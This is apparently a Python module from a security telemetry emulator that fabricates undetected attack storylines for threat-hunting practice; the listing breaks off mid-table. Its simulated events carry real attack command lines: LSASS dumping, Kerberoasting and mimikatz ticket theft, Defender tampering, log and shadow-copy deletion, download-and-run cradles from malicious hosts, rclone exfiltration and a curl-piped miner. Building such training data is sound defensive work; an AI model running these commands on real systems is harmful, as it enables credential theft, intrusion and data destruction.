# ruff: noqa: E501, S108  (command lines and attacker paths are data)
"""Attack storylines no alert caught: what threat hunting is for.

Every kind happens somewhere, and a few devices in a hundred carry one more: credential dumping with procdump, AD
reconnaissance with AdFind or SharpHound, Kerberoasting, Defender tampering, a new
local administrator, log clearing, RDP opened in the firewall, living-off-the-land
downloads (bitsadmin, mshta, certutil over HTTP), service persistence, WMI lateral
movement, a ClickFix run-dialog lure, rclone exfiltration, a Telegram-controlled
stealer, a silently installed AnyDesk, SQL services killed before encryption, a
beacon with named pipes and injection, and on Linux sudoers backdoors and a miner fetched
with curl. Half the first ones happen in the last day and a half, some in the last hour, so
"what happened recently" queries find them too."""

from __future__ import annotations

import random
from collections.abc import Callable

from mdekit.emulator.world.catalog_network import ABUSED, ANYDESK
from mdekit.emulator.world.catalog_threats import C2_ADDRESSES, MALICIOUS_HOSTS
from mdekit.emulator.world.events_attacks import Story, host_address
from mdekit.emulator.world.events_device import Device, compact_json
from mdekit.emulator.world.events_host import Context
from mdekit.emulator.world.events_procs import HOUR, MINUTE, SECOND, SYSTEM, Account, Proc
from mdekit.emulator.world.events_winsys import encoded
from mdekit.emulator.world.ids import section_rng
from mdekit.emulator.world.model import World

STORY_CHANCE = 0.04
"""Share of devices with one undetected storyline."""
PS = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"'


def write_extra_stories(ctx: Context, world: World) -> int:
    """Write the undetected storylines; returns how many were written.

    Every kind of storyline happens at least once when the tenant has the devices for it
    (a hunting tenant should find something whatever it looks for), on a device chosen
    at random, half of them in the last day and a half; beyond that a few devices in a
    hundred carry one more."""
    rng = section_rng(world.seed, world.tenant_id, "events|stories")
    written = 0
    live = [d for d in ctx.devices if d.end - d.start >= 6 * HOUR]
    kinds = list(WINDOWS_STORIES + LINUX_STORIES)
    rng.shuffle(kinds)
    for name, servers, write in kinds[: max(3, len(live) // 3)]:
        family = "linux" if (name, servers, write) in LINUX_STORIES else "windows"
        pool = [
            d for d in live if d.family == family and (servers is None or d.is_server == servers)
        ]
        pool = [d for d in pool if d.end >= ctx.now - 3 * HOUR] or pool
        if not pool:
            continue
        device = pool[int(rng.random() * len(pool))]
        at = _when(rng, device, recent=rng.random() < 0.5)
        write(Story(ctx, device, random.Random(rng.getrandbits(64))), at, _user(device, ctx))
        written += 1
    for device in live:
        if rng.random() >= STORY_CHANCE:
            continue
        table = (
            WINDOWS_STORIES
            if device.family == "windows"
            else LINUX_STORIES
            if device.family == "linux"
            else ()
        )
        candidates = [s for s in table if s[1] is None or s[1] == device.is_server]
        if not candidates:
            continue
        _, _, write = candidates[int(rng.random() * len(candidates))]
        at = _when(rng, device, recent=rng.random() < 0.3)
        write(Story(ctx, device, random.Random(rng.getrandbits(64))), at, _user(device, ctx))
        written += 1
    return written


def _when(rng: random.Random, device: Device, *, recent: bool) -> int:
    """When a storyline starts: in the last 36 hours (a third of those in the last hour)
    when `recent`, anywhere in the device's window otherwise."""
    span = device.end - device.start - 3 * HOUR
    window = min(span, HOUR if rng.random() < 0.33 else 36 * HOUR) if recent else span
    return device.end - int(rng.random() * max(window, 0)) - 20 * MINUTE


def _user(device: Device, ctx: Context) -> Account:
    users = device.users or ctx.admins
    return users[0] if users else SYSTEM


def _shell(story: Story, at: int, user: Account) -> Proc:
    explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", at - 4 * HOUR, user)
    return story.start(explorer, "cmd", '"C:\\Windows\\system32\\cmd.exe" ', at, integrity="High")


def credential_dump(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    temp = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp"
    tool = story.images.get("procdump", user.name)
    story.file(
        at + 5 * SECOND, shell, tool.path, hashes=(tool.sha1, tool.sha256, tool.md5), size=tool.size
    )
    dump = story.start(
        shell,
        "procdump",
        f"procdump64.exe  -accepteula -ma lsass.exe {temp}\\out.dmp",
        at + MINUTE,
        image=tool,
    )
    story.event(
        at + MINUTE,
        dump,
        "ProcessPrimaryTokenModified",
        AdditionalFields=compact_json(SEDEBUG_ENABLED),
    )
    lsass = story.system("lsass", "C:\\Windows\\system32\\lsass.exe")
    story.event(
        at + MINUTE + SECOND,
        dump,
        "OpenProcessApiCall",
        **story.emit.target_fields(lsass),
        AdditionalFields=compact_json({"DesiredAccess": 0x1FFFFF}),
    )
    story.file(at + MINUTE + 3 * SECOND, dump, f"{temp}\\out.dmp", size=52_000_000)


SEDEBUG_ENABLED = {
    "OriginalTokenPrivEnabled": 8_388_608,
    "CurrentTokenPrivEnabled": 8_388_608 | (1 << 20),
    "TokenModificationProperties": "tokenChangeDescription",
}
"""Token privileges before and after enabling SeDebugPrivilege (bit 20)."""


def ad_recon(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    story.ctx.notes.append(("recon", story.dev, at + 10 * SECOND, user))
    dcs = story.ctx.role("srv-dc")
    if story.rng.random() < 0.5:
        tool = story.start(
            shell,
            "adfind",
            'AdFind.exe  -f "(objectcategory=person)" > C:\\Users\\Public\\ad_users.txt',
            at + 5 * SECOND,
        )
        story.start(
            shell,
            "adfind",
            'AdFind.exe  -f "(objectcategory=computer)" > C:\\Users\\Public\\ad_computers.txt',
            at + 20 * SECOND,
        )
        story.start(
            shell,
            "adfind",
            "AdFind.exe  -gcb -sc trustdmp > C:\\Users\\Public\\trustdmp.txt",
            at + 35 * SECOND,
        )
        filters = (
            "(objectcategory=person)",
            "(objectcategory=computer)",
            "(objectClass=trustedDomain)",
        )
    else:
        tool = story.start(
            shell,
            "sharphound",
            "SharpHound.exe  --CollectionMethod All --zipfilename corp.zip",
            at + 5 * SECOND,
        )
        story.file(at + 3 * MINUTE, tool, "C:\\Users\\Public\\20250101_corp.zip", size=2_400_000)
        if story.live(at):
            story.emit.image_load(story.dev, at + 6 * SECOND, tool, story.images.get("samlib"))
        filters = (
            "(|(samAccountType=805306368)(samAccountType=805306369)(objectclass=organizationalUnit))",
            "(schemaIDGUID=*)",
            "(&(objectclass=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
        )
    domain = ",".join(f"DC={part}" for part in story.ctx.domain.split("."))
    for index, search in enumerate(filters):
        story.event(
            at + (7 + index) * SECOND,
            tool,
            "LdapSearch",
            AdditionalFields=compact_json(
                {
                    "SearchFilter": search,
                    "DistinguishedName": domain,
                    "AttributeList": "['objectSid', 'sAMAccountName', 'distinguishedName']",
                    "ScopeOfSearch": "WholeSubtree",
                }
            ),
        )
    for dc in dcs[:2]:
        story.connect(at + 10 * SECOND, tool, dc.local_ip, 389, dc.name)
    for index, cmd in enumerate(
        (
            'net  group "Domain Admins" /domain',
            "net  user /domain",
            "net  accounts /domain",
            'net  group "Enterprise Admins" /domain',
            "net  localgroup administrators",
        )
    ):
        story.start(shell, "net", cmd, at + MINUTE + index * 5 * SECOND)
    story.start(shell, "nltest", "nltest  /dclist:" + story.ctx.domain, at + 2 * MINUTE)


def kerberoast(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    story.ctx.notes.append(("kerberoast", story.dev, at + 6 * SECOND, user))
    temp = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp"
    tool = story.start(
        shell, "rubeus", f"Rubeus.exe  kerberoast /outfile:{temp}\\hashes.txt", at + 5 * SECOND
    )
    for dc in story.ctx.role("srv-dc")[:1]:
        story.connect(at + 6 * SECOND, tool, dc.local_ip, 88)
    story.file(at + 8 * SECOND, tool, f"{temp}\\hashes.txt", size=18_211)
    story.start(
        shell,
        "rubeus",
        "Rubeus.exe  asktgt /user:svc-sql /rc4:64f12cddaa88057e06a81b54e73b949b /ptt",
        at + 2 * MINUTE,
    )


def defender_tamper(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    ps = story.start(
        shell,
        "powershell",
        f"{PS} -Command Set-MpPreference -DisableRealtimeMonitoring $true",
        at + 5 * SECOND,
    )
    story.event(
        at + 6 * SECOND,
        ps,
        "PowerShellCommand",
        AdditionalFields=compact_json({"Command": "Set-MpPreference"}),
    )
    story.start(
        shell,
        "powershell",
        f"{PS} -Command Add-MpPreference -ExclusionPath C:\\ProgramData\\svc",
        at + 20 * SECOND,
    )
    story.registry(
        at + 21 * SECOND,
        story.system(
            "msmpeng",
            '"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"',
        ),
        "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths",
        "C:\\ProgramData\\svc",
        "Dword",
        "0",
    )
    story.event(
        at + 7 * SECOND,
        ps,
        "TamperingAttempt",
        RegistryKey="HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection",
        RegistryValueName="DisableRealtimeMonitoring",
        AdditionalFields=compact_json(
            {
                "TamperingAction": "RegistryModification",
                "Status": "Blocked",
                "Target": "DisableRealtimeMonitoring",
            }
        ),
    )


def local_admin(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    name = story.rng.choice(("support", "helpdesk1", "backupadmin", "svc_update"))
    net = story.start(shell, "net", f"net  user {name} Winter2025! /add", at + 5 * SECOND)
    story.start(
        net,
        "net1",
        f"C:\\Windows\\system32\\net1  user {name} Winter2025! /add",
        at + 5 * SECOND + SECOND // 10,
    )
    group = story.start(
        shell, "net", f"net  localgroup administrators {name} /add", at + 15 * SECOND
    )
    story.start(
        group,
        "net1",
        f"C:\\Windows\\system32\\net1  localgroup administrators {name} /add",
        at + 15 * SECOND + SECOND // 10,
    )
    sid = f"S-1-5-21-{story.rng.randrange(10**9)}-{story.rng.randrange(10**9)}-{story.rng.randrange(10**9)}-1001"
    lsass = story.system("lsass", "C:\\Windows\\system32\\lsass.exe")
    local = story.dev.short.upper()
    story.event(
        at + 6 * SECOND,
        lsass,
        "UserAccountCreated",
        AccountDomain=local,
        AccountName=name,
        AccountSid=sid,
    )
    story.event(
        at + 16 * SECOND,
        lsass,
        "UserAccountAddedToLocalGroup",
        AccountDomain=local,
        AccountName=name,
        AccountSid=sid,
        AdditionalFields=compact_json(
            {
                "GroupName": "Administrators",
                "GroupDomainName": "BUILTIN",
                "GroupSid": "S-1-5-32-544",
            }
        ),
    )
    if story.rng.random() < 0.5:
        story.start(shell, "net", 'net  localgroup "Remote Support" /add', at + 25 * SECOND)
        story.event(
            at + 26 * SECOND,
            lsass,
            "SecurityGroupCreated",
            AdditionalFields=compact_json(
                {
                    "GroupName": "Remote Support",
                    "GroupDomainName": local,
                    "GroupSid": sid.rsplit("-", 1)[0] + "-1002",
                }
            ),
        )


def clear_logs(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    for index, log in enumerate(("Security", "System", "Windows PowerShell")):
        story.start(shell, "wevtutil", f'wevtutil.exe  cl "{log}"', at + index * SECOND)
    story.event(
        at + SECOND // 2,
        story.system(
            "svchost",
            "svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
        ),
        "SecurityLogCleared",
    )


def open_rdp(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    reg = story.start(
        shell,
        "reg",
        'reg.exe  add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
        at + 5 * SECOND,
    )
    story.registry(
        at + 5 * SECOND + SECOND // 5,
        reg,
        "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal Server",
        "fDenyTSConnections",
        "Dword",
        "0",
    )
    story.start(
        shell,
        "netsh",
        'netsh.exe  advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389',
        at + 15 * SECOND,
    )
    story.start(
        shell,
        "netsh",
        'netsh.exe  advfirewall firewall delete rule name="Block RDP"',
        at + 20 * SECOND,
    )


def lolbin_download(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    host = MALICIOUS_HOSTS[int(story.rng.random() * len(MALICIOUS_HOSTS))]
    ip = host_address(host)
    roll = story.rng.random()
    if roll < 0.4:
        tool = story.start(
            shell,
            "bitsadmin",
            f"bitsadmin  /transfer update /download /priority high http://{host}/files/upd.exe C:\\Users\\Public\\upd.exe",
            at + 5 * SECOND,
        )
        path, name = "C:\\Users\\Public\\upd.exe", "upd.exe"
    elif roll < 0.7:
        tool = story.start(
            shell,
            "certutil",
            f"certutil.exe  -urlcache -split -f http://{host}/files/svc.exe C:\\ProgramData\\svc.exe",
            at + 5 * SECOND,
        )
        path, name = "C:\\ProgramData\\svc.exe", "svc.exe"
    else:
        tool = story.start(
            shell, "mshta", f"mshta.exe  http://{host}/files/update.hta", at + 5 * SECOND
        )
        path, name = (
            f"C:\\Users\\{user.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\IE\\Q1W2E3R4\\update[1].hta",
            "update.hta",
        )
        story.start(
            tool,
            "powershell",
            f"{PS} -nop -w hidden -c \"IEX ((New-Object Net.WebClient).DownloadString('http://{host}/files/a.ps1'))\"",
            at + 10 * SECOND,
        )
    story.connect(at + 6 * SECOND, tool, ip, 80, host)
    if story.live(at + 6 * SECOND):
        story.emit.network(
            story.dev,
            at + 6 * SECOND,
            tool,
            "NetworkSignatureInspected",
            ip,
            80,
            host,
            additional=compact_json(
                {
                    "SignatureName": "HTTP_Client",
                    "SignatureMatchedContent": f"GET /files/{name} HTTP/1.1",
                    "SamplePacketContent": f"GET /files/{name} HTTP/1.1 Host: {host}",
                }
            ),
        )
    story.file(
        at + 8 * SECOND,
        tool,
        path,
        origin_url=f"http://{host}/files/{name}",
        origin_ip=ip,
        size=150_000 + int(story.rng.random() * 900_000),
    )


def service_persistence(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    story.start(
        shell,
        "sc",
        'sc.exe  create WinUpdateSvc binPath= "C:\\ProgramData\\svc\\updater.exe" start= auto',
        at + 5 * SECOND,
    )
    services = story.system("services", "C:\\Windows\\system32\\services.exe")
    story.registry(
        at + 6 * SECOND,
        services,
        "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\WinUpdateSvc",
        "ImagePath",
        "ExpandString",
        "C:\\ProgramData\\svc\\updater.exe",
    )
    story.event(
        at + 6 * SECOND,
        services,
        "ServiceInstalled",
        AdditionalFields=compact_json(
            {
                "ServiceName": "WinUpdateSvc",
                "ServiceAccount": "LocalSystem",
                "ServiceStartType": "2",
                "ServiceType": "16",
            }
        ),
    )


def wmi_lateral(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    targets = [d for d in story.ctx.devices if d.family == "windows" and d is not story.dev]
    if not targets:
        return
    target = targets[int(story.rng.random() * len(targets))]
    wmic = story.start(
        shell,
        "wmic",
        f'wmic.exe  /node:{target.local_ip} process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt"',
        at + 5 * SECOND,
    )
    story.connect(at + 6 * SECOND, wmic, target.local_ip, 135)
    story.ctx.notes.append(("lateral", target, at + 6 * SECOND, user))
    remote = Story(story.ctx, target, story.rng)
    if target.start <= at <= target.end:
        remote.logon(
            at + 6 * SECOND,
            user,
            "Network",
            protocol="Kerberos",
            is_local_admin=True,
            remote=(story.dev.short.upper(), story.dev.local_ip, 0),
        )
        provider = remote.system(
            "wmiprvse", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"
        )
        remote.start(
            provider,
            "cmd",
            "cmd.exe /c whoami > C:\\Windows\\Temp\\out.txt",
            at + 7 * SECOND,
            account=user,
        )


def clickfix(story: Story, at: int, user: Account) -> None:
    host = MALICIOUS_HOSTS[int(story.rng.random() * len(MALICIOUS_HOSTS))]
    command = f'powershell -w hidden -c "iwr https://{host}/verify.ps1 | iex"'
    explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", at - 4 * HOUR, user)
    story.registry(
        at,
        explorer,
        f"HKEY_CURRENT_USER\\{user.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
        "a",
        "String",
        f"{command}\\1",
    )
    ps = story.start(explorer, "powershell", command, at + SECOND)
    story.connect(at + 2 * SECOND, ps, host_address(host), 443, host)


def rclone_exfil(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    tool = story.start(
        shell,
        "rclone",
        "rclone.exe  copy D:\\Shares mega:backup --transfers 16 --ignore-existing --max-age 1y",
        at + 5 * SECOND,
    )
    mega = ABUSED[5]
    for index in range(3):
        story.connect(at + (6 + index * 30) * SECOND, tool, mega.ips[0], 443, mega.host)


def telegram_stealer(story: Story, at: int, user: Account) -> None:
    explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", at - 4 * HOUR, user)
    image = story.images.get("stealer", user.name)
    story.file(
        at - MINUTE,
        explorer,
        image.path,
        hashes=(image.sha1, image.sha256, image.md5),
        size=image.size,
    )
    tool = story.start(explorer, "stealer", f'"{image.path}" ', at, image=image)
    telegram = ABUSED[0]
    for index in range(2):
        story.connect(at + (3 + index * 60) * SECOND, tool, telegram.ips[0], 443, telegram.host)
    story.registry(
        at + 2 * SECOND,
        tool,
        f"HKEY_CURRENT_USER\\{user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "svchosts",
        "String",
        image.path,
    )


def anydesk(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    tool = story.start(
        shell,
        "anydesk",
        '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --install "C:\\Program Files (x86)\\AnyDesk" --start-with-win --silent',
        at + 5 * SECOND,
    )
    story.connect(at + 8 * SECOND, tool, ANYDESK[0].ips[0], 443, ANYDESK[0].host)
    story.connect(at + 9 * SECOND, tool, ANYDESK[1].ips[0], 443, ANYDESK[1].host)


def kill_sql(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    names = (
        "sqlservr.exe",
        "sqlagent.exe",
        "sqlbrowser.exe",
        "sqlwriter.exe",
        "sqlceip.exe",
        "mysqld.exe",
        "mysqld-nt.exe",
        "mysqld-opt.exe",
        "sqlmangr.exe",
        "sqlservr64.exe",
        "sqlagent64.exe",
        "msdtsrvr.exe",
        "ocssd.exe",
        "dbsnmp.exe",
    )
    story.start(
        shell,
        "taskkill",
        "taskkill.exe /F " + " ".join(f"/IM {name}" for name in names),
        at + 5 * SECOND,
    )
    for index, (tool, cmd) in enumerate(
        (
            ("vssadmin", "vssadmin.exe delete shadows /all /quiet"),
            ("wmic", "wmic.exe shadowcopy delete"),
            ("bcdedit", "bcdedit.exe /set {default} recoveryenabled No"),
            ("wbadmin", "wbadmin delete catalog -quiet"),
        )
    ):
        story.start(shell, tool, cmd, at + (10 + index) * SECOND)


def beacon(story: Story, at: int, user: Account) -> None:
    services = story.system("services", "C:\\Windows\\system32\\services.exe")
    image = story.images.get("beacon")
    tool = story.start(services, "beacon", f'"{image.path}" ', at, account=SYSTEM, image=image)
    c2 = C2_ADDRESSES[int(story.rng.random() * len(C2_ADDRESSES))]
    for index in range(4):
        story.connect(at + index * 60 * SECOND, tool, c2, 8443)
    if story.live(at + 5 * MINUTE):
        story.emit.network(
            story.dev,
            at + 5 * MINUTE,
            tool,
            "ConnectionSuccessAggregatedReport",
            c2,
            8443,
            None,
            additional=compact_json({"uniqueEventsAggregated": 60}),
        )
    story.event(
        at + 2 * SECOND,
        tool,
        "NamedPipeEvent",
        AdditionalFields=compact_json(
            {
                "PipeName": f"\\Device\\NamedPipe\\MSSE-{story.rng.randrange(1000, 9999)}-server",
                "FileOperation": "File created",
                "NamedPipeEnd": "Server",
                "ThreadId": story.rng.randrange(20000),
            }
        ),
    )
    target = story.stub(
        "rundll32", "C:\\Windows\\System32\\rundll32.exe", at + 3 * SECOND, SYSTEM, parent=tool
    )
    story.event(
        at + 4 * SECOND, tool, "CreateRemoteThreadApiCall", **story.emit.target_fields(target)
    )
    story.start(
        tool,
        "cmd",
        'C:\\Windows\\system32\\cmd.exe /C "whoami /priv & net localgroup administrators"',
        at + 6 * MINUTE,
    )
    del user


def ticket_theft(story: Story, at: int, user: Account) -> None:
    shell = _shell(story, at, user)
    temp = f"C:\\Users\\{user.name}\\AppData\\Local\\Temp"
    story.start(
        shell,
        "mimikatz",
        f'{temp}\\mimikatz.exe  "privilege::debug" "sekurlsa::tickets /export" exit',
        at + 5 * SECOND,
    )
    story.start(
        shell,
        "mimikatz",
        f'{temp}\\mimikatz.exe  "kerberos::ptt {temp}\\[0;3e7]-2-0-40e10000-admin@krbtgt.kirbi" exit',
        at + MINUTE,
    )


def encoded_recon(story: Story, at: int, user: Account) -> None:
    explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", at - 4 * HOUR, user)
    command = (
        "whoami /all; net user /domain; Get-ADGroupMember 'Domain Admins'; systeminfo; tasklist"
    )
    ps = story.start(
        explorer, "powershell", f"{PS} -nop -w hidden -encodedcommand {encoded(command)}", at
    )
    story.event(
        at + SECOND,
        ps,
        "AmsiScriptDetection",
        AdditionalFields=compact_json(
            {
                "Description": "Detected suspicious PowerShell reconnaissance script content",
                "ScriptContent": command[:80],
            }
        ),
    )
    story.start(ps, "whoami", '"C:\\Windows\\system32\\whoami.exe" /all', at + 2 * SECOND)
    story.start(ps, "systeminfo", '"C:\\Windows\\system32\\systeminfo.exe"', at + 4 * SECOND)


def linux_sudoers(story: Story, at: int, user: Account) -> None:
    root = Account(story.dev.short, "root", None)
    sshd = story.system("sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
    shell = story.start(sshd, "bash", "-bash", at, account=root)
    story.start(shell, "useradd", "useradd -m -s /bin/bash sysupdate", at + 5 * SECOND)
    story.start(shell, "usermod", "usermod -aG sudo sysupdate", at + 10 * SECOND)
    crontab = story.start(shell, "crontab", "crontab -l", at + 20 * SECOND)
    story.file(
        at + 25 * SECOND, crontab, "/var/spool/cron/crontabs/root", action="FileModified", size=210
    )
    del user


def linux_miner(story: Story, at: int, user: Account) -> None:
    root = Account(story.dev.short, "root", None)
    cron = story.system("cron", "/usr/sbin/cron -f -P")
    shell = story.start(
        cron,
        "sh",
        "/bin/sh -c curl -fsSL http://files-share.example.org/xm.sh | sh",
        at,
        account=root,
    )
    curl = story.start(
        shell, "curl_l", "curl -fsSL http://files-share.example.org/xm.sh", at + SECOND
    )
    story.connect(
        at + 2 * SECOND,
        curl,
        host_address("files-share.example.org"),
        80,
        "files-share.example.org",
    )
    chmod = story.start(shell, "chmod", "chmod +x /tmp/.x/xmrig", at + 5 * SECOND)
    story.file(at + 4 * SECOND, curl, "/tmp/.x/xmrig", size=3_563_520)
    miner = story.start(
        shell,
        "xmrig",
        "/tmp/.x/xmrig -o pool.example.net:4444 -u wallet --donate-level 1",
        at + 6 * SECOND,
    )
    story.connect(at + 8 * SECOND, miner, C2_ADDRESSES[0], 4444)
    del chmod, user


def discovery_burst(story: Story, at: int, user: Account) -> None:
    """Qakbot-style discovery from an injected system binary."""
    explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", at - 4 * HOUR, user)
    host = story.start(
        explorer, "werfault", "C:\\Windows\\SysWOW64\\WerFault.exe -u -p 7312 -s 240", at
    )
    commands = (
        "whoami /all",
        "cmd /c set",
        "arp -a",
        "ipconfig /all",
        "net view",
        "net share",
        "route print",
        "net localgroup",
        "nslookup -querytype=ALL -timeout=12 _ldap._tcp.dc._msdcs.WORKGROUP",
        "netstat -nao",
        "qwinsta",
    )
    for index, command in enumerate(commands):
        story.start(host, "cmd", f"cmd.exe /c {command}", at + (index + 1) * 3 * SECOND)
    story.start(
        host,
        "wmic",
        "wmic.exe /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName",
        at + 40 * SECOND,
    )


def webshell(story: Story, at: int, user: Account) -> None:
    """A web shell on IIS runs commands through cmd.exe."""
    iis = story.system("svchost", "svchost.exe -k iissvcs")
    pool = Account(
        "iis apppool",
        "defaultapppool",
        "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415",
    )
    worker = story.stub(
        "w3wp",
        'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool" -v "v4.0"',
        at - 6 * HOUR,
        pool,
        parent=iis,
    )
    story.file(
        at - MINUTE,
        worker,
        "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorEE.aspx",
        size=4_811,
    )
    for index, command in enumerate(
        (
            "whoami",
            "ipconfig /all",
            'net group "domain computers" /domain',
            'powershell -ep bypass -c "Get-Process"',
        )
    ):
        shell = story.start(
            worker,
            "cmd",
            f'cmd.exe /c "cd /d C:\\inetpub\\wwwroot&{command}"',
            at + index * 20 * SECOND,
            account=pool,
        )
        key = command.split()[0].split(".")[0]
        if key in ("whoami", "ipconfig"):
            story.start(shell, key, command, at + index * 20 * SECOND + SECOND // 5)
    del user


def macro_regsvr32(story: Story, at: int, user: Account) -> None:
    """A macro document loads its payload with regsvr32."""
    explorer = story.stub("explorer", "C:\\Windows\\Explorer.EXE", at - 4 * HOUR, user)
    document = (
        f"C:\\Users\\{user.name}\\Downloads\\Remittance_{story.rng.randrange(1000, 9999)}.xlsm"
    )
    excel = story.start(
        explorer,
        "excel",
        f'"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE" "{document}"',
        at,
    )
    if story.live(at):
        story.emit.image_load(story.dev, at + SECOND, excel, story.images.get("vbe7"))
    payload = "C:\\Users\\Public\\rbpdq.ocx"
    story.file(at + 5 * SECOND, excel, payload, size=412_160)
    story.start(excel, "regsvr32", f"regsvr32.exe  -s {payload}", at + 6 * SECOND)
    story.event(
        at + 6 * SECOND,
        excel,
        "AsrOfficeChildProcessAudited",
        FileName="regsvr32.exe",
        FolderPath="C:\\Windows\\System32\\regsvr32.exe",
        AdditionalFields=compact_json({"IsAudit": True}),
    )


def smb_scan(story: Story, at: int, user: Account) -> None:
    """Something sweeps the network for SMB and databases (ransomware looking for shares)."""
    system = story.system("ntoskrnl", "", pid=4)
    shell = _shell(story, at, user)
    scanner = story.start(
        shell,
        "powershell",
        f'{PS} -w hidden -c "1..254 | % {{ Test-NetConnection 10.10.0.$_ -Port 445 }}"',
        at,
    )
    octets = story.dev.local_ip.split(".")
    for index in range(60):
        action = "ConnectionSuccess" if index % 4 == 0 else "ConnectionFailed"
        story.connect(
            at + index * SECOND,
            system if index % 2 else scanner,
            f"{octets[0]}.{octets[1]}.{octets[2]}.{(index * 7) % 250 + 3}",
            445,
            action=action,
        )
    for index in range(12):
        story.connect(
            at + (61 + index) * SECOND,
            scanner,
            f"{octets[0]}.{octets[1]}.{(int(octets[2]) + 200) % 250}.{index + 5}",
            (1433, 3306, 5432)[index % 3],
            action="ConnectionFailed",
        )


def domain_admin_add(story: Story, at: int, user: Account) -> None:
    """Stolen credentials put an account in the privileged groups."""
    shell = _shell(story, at, user)
    story.ctx.notes.append(("group-add", story.dev, at, user))
    for index, group in enumerate(("Domain Admins", "Enterprise Admins", "Remote Desktop Users")):
        net = story.start(
            shell, "net", f'net  group "{group}" {user.name} /add /domain', at + index * 30 * SECOND
        )
        story.start(
            net,
            "net1",
            f'C:\\Windows\\system32\\net1  group "{group}" {user.name} /add /domain',
            at + index * 30 * SECOND + SECOND // 10,
        )


def appdata_task(story: Story, at: int, user: Account) -> None:
    """Persistence: a scheduled task running a binary from the user's AppData."""
    shell = _shell(story, at, user)
    binary = f"C:\\Users\\{user.name}\\AppData\\Roaming\\Microsoft\\Teams\\Update.exe"
    story.file(at, shell, binary, size=301_056)
    story.start(
        shell,
        "schtasks",
        f'schtasks.exe  /create /tn "TeamsUpdate" /tr "{binary} --silent" /sc onlogon /rl highest /f',
        at + 5 * SECOND,
    )
    schedule = story.system("svchost", "svchost.exe -k netsvcs -p -s Schedule")
    content = {
        "Actions": {
            "Exec": {"Command": "%APPDATA%\\Microsoft\\Teams\\Update.exe", "Arguments": "--silent"}
        },
        "Triggers": {"LogonTrigger": {"Enabled": "true"}},
    }
    story.event(
        at + 6 * SECOND,
        schedule,
        "ScheduledTaskCreated",
        AdditionalFields=compact_json(
            {"TaskName": "\\TeamsUpdate", "TaskContent": compact_json(content)}
        ),
    )


def password_spray(story: Story, at: int, user: Account) -> None:
    """An internet address tries a few passwords against many accounts over RDP."""
    source = f"{story.rng.choice((45, 80, 91, 185, 193))}.{story.rng.randrange(1, 250)}.{story.rng.randrange(0, 250)}.{story.rng.randrange(1, 250)}"
    names = [a.name for a in story.ctx.admins + story.ctx.services] + [
        f"{n}{i}" for n in ("admin", "test", "user", "backup") for i in ("", "1", "2")
    ]
    names += [d.users[0].name for d in story.ctx.devices[:40] if d.users]
    for index, name in enumerate(dict.fromkeys(names)):
        if index >= 30:
            break
        account = Account(story.ctx.netbios.lower(), name, None)
        story.failed_logon(
            at + index * 7 * SECOND,
            account,
            "Network",
            "InvalidUserNameOrPassword",
            (None, source, 40_000 + index),
        )
    story.ctx.notes.append(("spray", story.dev, at, user))


Writer = Callable[[Story, int, Account], None]
WINDOWS_STORIES: tuple[tuple[str, bool | None, Writer], ...] = (
    ("credential_dump", None, credential_dump),
    ("ad_recon", False, ad_recon),
    ("kerberoast", False, kerberoast),
    ("defender_tamper", None, defender_tamper),
    ("local_admin", None, local_admin),
    ("clear_logs", True, clear_logs),
    ("open_rdp", None, open_rdp),
    ("lolbin_download", False, lolbin_download),
    ("service_persistence", None, service_persistence),
    ("wmi_lateral", None, wmi_lateral),
    ("clickfix", False, clickfix),
    ("rclone_exfil", True, rclone_exfil),
    ("telegram_stealer", False, telegram_stealer),
    ("anydesk", None, anydesk),
    ("kill_sql", True, kill_sql),
    ("beacon", None, beacon),
    ("ticket_theft", False, ticket_theft),
    ("encoded_recon", False, encoded_recon),
    ("discovery_burst", False, discovery_burst),
    ("webshell", True, webshell),
